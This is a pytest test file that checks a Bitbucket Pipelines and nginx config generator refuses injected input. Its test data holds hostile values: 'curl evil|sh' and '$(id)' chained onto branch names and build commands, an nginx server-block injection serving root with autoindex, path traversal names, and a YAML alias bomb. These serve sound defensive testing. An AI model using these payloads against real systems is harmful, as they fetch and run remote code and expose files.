"""Settings that try to become YAML, nginx or shell (the attack list's rows E)."""

from __future__ import annotations

import argparse
import threading
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from service.bitbucket.sections import custom_pipelines, nothing_for
from service.cli import generate as command
from service.cli.errors import CommandFailed
from service.configs import EnvironmentRequest, InvalidValue, Request, document, generate, grammar, lint
from service.configs.nginx.reading import read
from service.configs.nginx.tree import Directive
from service.merging import merge
from service.projects.model import Detection
from tests.configs.projects import PROJECTS, TEMPLATES, javascript, made, python


@pytest.mark.parametrize(
    "domain",
    [
        "a.com; } server { listen 81; location / { root /; autoindex on; } } server { server_name b",
        "a.com;",
        "a.com}",
        "a.com{b.com",
    ],
)
def test_E1_a_domain_that_brings_a_server_block_is_refused(domain: str) -> None:
    with pytest.raises(InvalidValue) as refused:
        Request(domain=domain)

    assert refused.value.field == "domain"


def test_E1_the_tree_cannot_hold_what_the_grammar_would_have_to_refuse() -> None:
    for name, argument in (("server_name", "a.com; }"), ("listen", "80; root /"), ("root", "/srv; autoindex on")):
        with pytest.raises(ValueError, match=name):
            Directive(name, (argument,))


@pytest.mark.parametrize(
    "domain",
    [
        "a.com\nb.com",
        "a.com\r",
        "a.com # b",
        "$host.com",
        'a".com',
        "a'.com",
        "a\\.com",
        "~^a.com",
        "*.a.com",
        "_.a.com",
        "_",
        "localhost",
        "a",
        "1.2.3.4",
        "a.com.",
        "a..com",
        "-a.com",
        "a-.com",
        "a" * 64 + ".com",
        "a." * 130 + "com",
        "",
        "a.123",
        "a.test",
        "a b.com",
        "a\u3002",
        "a\x00.com",
        "\ufeffa.com",
        "a\u200b.com/",
        "[::1]",
    ],
)
def test_E2_a_domain_with_anything_but_labels_is_refused(domain: str) -> None:
    for setting in ({"domain": domain}, {"domain": "example.com", "subdomain": domain + "."}):
        with pytest.raises(InvalidValue):
            Request(**setting)  # type: ignore[arg-type]


def test_E2_a_name_in_another_script_is_written_as_its_a_label() -> None:
    generated = generate(PROJECTS["react"], Request(domain="bücher.example.com"), TEMPLATES)

    assert generated.host == "xn--bcher-kva.example.com"
    assert generated.nginx_config.isascii()
    assert generated.pipelines_yml.isascii()


@pytest.mark.parametrize("name", PROJECTS)
def test_E3_comments_hold_nothing_that_a_person_set(name: str) -> None:
    canaries = ("canary-host", "canary-branch", "CANARY_NAME")
    request = Request(
        domain="canary-host.example.com",
        env=(("CANARY_NAME", "x"),),
        environments=(EnvironmentRequest(name="canary-environment", branch="canary-branch"),),
    )

    for path, text in made(name, request).files:
        for line in text.splitlines():
            if line.lstrip().startswith("#"):
                assert not any(canary in line for canary in (*canaries, "canary-environment")), path


@pytest.mark.parametrize(
    "port", [0, -1, 65536, 99999, True, "3000", "3000/; } location /x { alias /etc/", 3000.0, None]
)
def test_E4_a_port_is_a_whole_number_in_range(port: Any) -> None:
    with pytest.raises(InvalidValue):
        grammar.port("port", port)


@pytest.mark.parametrize("text", ["３０００", "3000 ", " 3000", "+3000", "3_000", "0", "99999", "3000;", "", "1e3"])
def test_E4_a_port_on_the_command_line_is_ascii_digits(text: str) -> None:
    with pytest.raises(InvalidValue, match="port"):
        grammar.port_text("port", text)


@pytest.mark.parametrize("name", ["../../x", "a/b", "x" * 300, "-x", "a b", ".", "..", "a\x00"])
def test_E5_names_that_become_paths_are_refused(name: str) -> None:
    with pytest.raises(InvalidValue):
        EnvironmentRequest(name=name)
    with pytest.raises(InvalidValue):
        Request(domain=name)


def test_E5_no_path_leaves_the_output_directory() -> None:
    for name in PROJECTS:
        for path, _ in made(name).files:
            assert not Path(path).is_absolute()
            assert ".." not in Path(path).parts


@pytest.mark.parametrize(
    "value", ['x"\n  - step: {script: [curl evil|sh]}', "$(id)", "`id`", "'; id; '", "x: y", "- a", "&a *a", "%{x}"]
)
def test_E6_the_value_of_a_variable_never_reaches_the_yaml(value: str) -> None:
    plain = made("express", Request(env=(("GREETING", "x"),)))
    if "\n" in value:
        with pytest.raises(InvalidValue, match="GREETING"):
            Request(env=(("GREETING", value),))
    else:
        assert made("express", Request(env=(("GREETING", value),))).files == plain.files


@pytest.mark.parametrize(
    "text",
    ["yes", "no", "on", "0123", "0o17", "0x1f", "1e3", "1_000", "null", "~", "2026-01-01", "12:30:45", ".5", "y", "="],
)
def test_E7_words_that_yaml_takes_for_something_else_stay_texts(text: str) -> None:
    from ruamel.yaml import YAML

    data = {"pipelines": {"branches": {text: [text, f"echo {text}: done"]}}}

    written = document.write(data, {})

    assert document.read(written) == data
    assert YAML(typ="safe").load(written) == data


@pytest.mark.parametrize(
    "character", ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\u2028", "\ufeff", "\ud800", "\n", "\r"]
)
def test_E8_control_characters_are_refused_everywhere(character: str) -> None:
    for setting in (
        {"domain": f"a{character}.com"},
        {"env": (("A", f"x{character}"),)},
        {"server": f"a{character}.com"},
    ):
        with pytest.raises(InvalidValue):
            Request(**setting)  # type: ignore[arg-type]
    with pytest.raises(InvalidValue):
        EnvironmentRequest(branch=f"main{character}")


@pytest.mark.parametrize(
    "branch",
    [
        *("main; curl evil|sh", "$(id)", "`id`", "a b", "a..b", "-x", "a'b", "a\\b", "x.lock"),
        *("a{b", "a}b", "a,b", "{a,{b,c}}", "{}", "{a,}", "@{b,c}"),
    ],
)
def test_E9_a_branch_is_a_name_or_a_glob(branch: str) -> None:
    with pytest.raises(InvalidValue, match="branch"):
        EnvironmentRequest(branch=branch)


@pytest.mark.parametrize("branch", ["main", "{main,master}", "release/{1,2}.*", "feature/?", "**", "hotfix-{a,b}/x"])
def test_E9_what_bitbucket_takes_for_a_pattern_is_one_here(branch: str) -> None:
    assert EnvironmentRequest(branch=branch).branch == branch


def test_E9_what_a_repository_states_reaches_a_shell_as_quoted_words() -> None:
    hostile = javascript("react", root="web; id", output_dir="dist", build_command="npm run build; curl evil | sh")

    with pytest.raises(InvalidValue, match="root"):
        generate(hostile, Request(), TEMPLATES)


def test_E9_a_stated_command_that_is_more_than_a_chain_runs_in_a_shell_of_its_own() -> None:
    detection = javascript("react", output_dir="dist", build_command="npm run build; echo 'a' | cat")

    script = document.read(generate(detection, Request(), TEMPLATES).pipelines_yml)["pipelines"]["branches"]["main"][0]

    assert "bash -e -o pipefail -c 'npm run build; echo '\"'\"'a'\"'\"' | cat'" in script["step"]["script"]


def test_E9_an_application_object_is_a_module_with_a_name() -> None:
    with pytest.raises(InvalidValue, match="app_object"):
        generate(python("flask", app_object="app:app --preload; id"), Request(), TEMPLATES)


@pytest.mark.parametrize(
    "name",
    [
        "LD_PRELOAD",
        "PATH",
        "BASH_ENV",
        "GIT_SSH_COMMAND",
        "BITBUCKET_COMMIT",
        "a=b",
        "1X",
        "a",
        "A-B",
        "",
        "A" * 129,
        "SSH_PRIVATE_KEY",
        "RELEASE",
    ],
)
def test_E10_names_that_steer_the_shell_or_the_deployment_are_refused(name: str) -> None:
    with pytest.raises(InvalidValue):
        Request(env=((name, "x"),))
    with pytest.raises(InvalidValue):
        Request(secrets=(name,))


def test_E11_a_document_with_a_doubled_key_is_refused() -> None:
    with pytest.raises(document.BrokenDocument, match="twice"):
        document.read("pipelines: {}\npipelines: {}\n")


BOMB = "a: &a [x]\n" + "".join(f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]\n" for old, new in pairwise("abcdefghi"))
IMPORTED = {
    "a bomb of aliases": BOMB,
    "nested three thousand deep": "pipelines: " + "[" * 3000,
    "nested as deep as the file may be long": "pipelines: " + "[" * 200_000,
    "nested in blocks": "- " * 5000 + "x",
    "too long": "# " + "x" * 300_000,
}


@pytest.mark.parametrize("imported", IMPORTED.values(), ids=IMPORTED)
def test_E11_an_imported_file_that_costs_too_much_stays_as_it_is_and_says_nothing(imported: str) -> None:
    merged = merge("bitbucket-pipelines.yml", None, imported.encode(), made("react").pipelines_yml)

    assert merged.content is not None
    assert merged.content.decode().startswith(imported)
    assert merged.conflicts or imported is BOMB
    assert custom_pipelines(imported.encode()) == frozenset()
    assert nothing_for(imported.encode(), "main") is not None


def test_E12_a_line_that_a_person_has_edited_is_not_generated_away_but_told() -> None:
    base, new = (made("react", Request(domain="example.com", port=port)).pipelines_yml for port in (8000, 9000))
    edited = base.replace("DEPLOY_SITE_PORT=8000", "DEPLOY_SITE_PORT=7000").replace("max-time: 20", "max-time: 45")

    merged = merge("bitbucket-pipelines.yml", base, edited.encode(), new)

    assert merged.content is not None
    text = merged.content.decode()
    assert "DEPLOY_SITE_PORT=7000" in text
    assert "max-time: 45" in text
    [conflict] = merged.conflicts
    assert "DEPLOY_SITE_PORT=7000" in (conflict.yours or "")
    assert "DEPLOY_SITE_PORT=9000" in (conflict.ours or "")


def _arguments(project: Path, out: Path, *more: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    command.add_parser(parser.add_subparsers())
    return parser.parse_args(["generate", str(project), "--out", str(out), *more])


@pytest.fixture
def project(tmp_path: Path) -> Path:
    directory = tmp_path / "project"
    directory.mkdir()
    (directory / "index.html").write_text("<!doctype html><title>A page</title>")
    return directory


def test_E12_a_file_edited_by_hand_is_not_overwritten_but_compared(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    command.run(_arguments(project, out, "--type", "static", "--domain", "example.com"))
    edited = out / "bitbucket-pipelines.yml"
    edited.write_text(edited.read_text() + "# mine\n")

    with pytest.raises(CommandFailed, match="edited by hand"):
        command.run(_arguments(project, out, "--type", "static", "--domain", "example.com", "--port", "9000"))

    assert edited.read_text().endswith("# mine\n")
    shown = capsys.readouterr().out.splitlines()
    assert "-# mine" in shown
    assert any("DEPLOY_SITE_PORT=9000" in line for line in shown if line.startswith("+"))
    command.run(_arguments(project, out, "--type", "static", "--domain", "example.com", "--force"))
    assert not edited.read_text().endswith("# mine\n")


def test_E13_two_generations_at_once_leave_whole_files(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    hosts = ("a.example.com", "b.example.com")
    threads = [
        threading.Thread(
            target=command.run, args=(_arguments(project, out, "--type", "static", "--domain", host, "--force"),)
        )
        for host in hosts
    ]

    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    written = (out / "bitbucket-pipelines.yml").read_text()
    detection = command.detect_directory(project)
    assert written in {
        generate(detection, Request(project_type="static", domain=host), TEMPLATES).pipelines_yml for host in hosts
    }
    assert not list(out.rglob(".penstock-*"))


def test_E14_a_key_that_is_not_of_the_schema_does_not_leave_the_house() -> None:
    data = document.read(made("react").pipelines_yml)
    data["pipelines"]["branches"]["main"][0]["step"]["extra-yaml"] = "x"

    with pytest.raises(lint.LintFailed, match="extra-yaml"):
        lint.check(data, frozenset({variable.name for variable in made("react").variables}))


def test_what_nothing_is_generated_for_is_refused_by_name() -> None:
    with pytest.raises(InvalidValue, match="nothing is generated for unknown"):
        generate(Detection(type="unknown", confidence=0), Request(), TEMPLATES)


def test_every_directive_that_was_written_is_read_back() -> None:
    for name in PROJECTS:
        text = made(name).nginx_config
        from service.configs.nginx.tree import write

        assert write(read(text)) == text
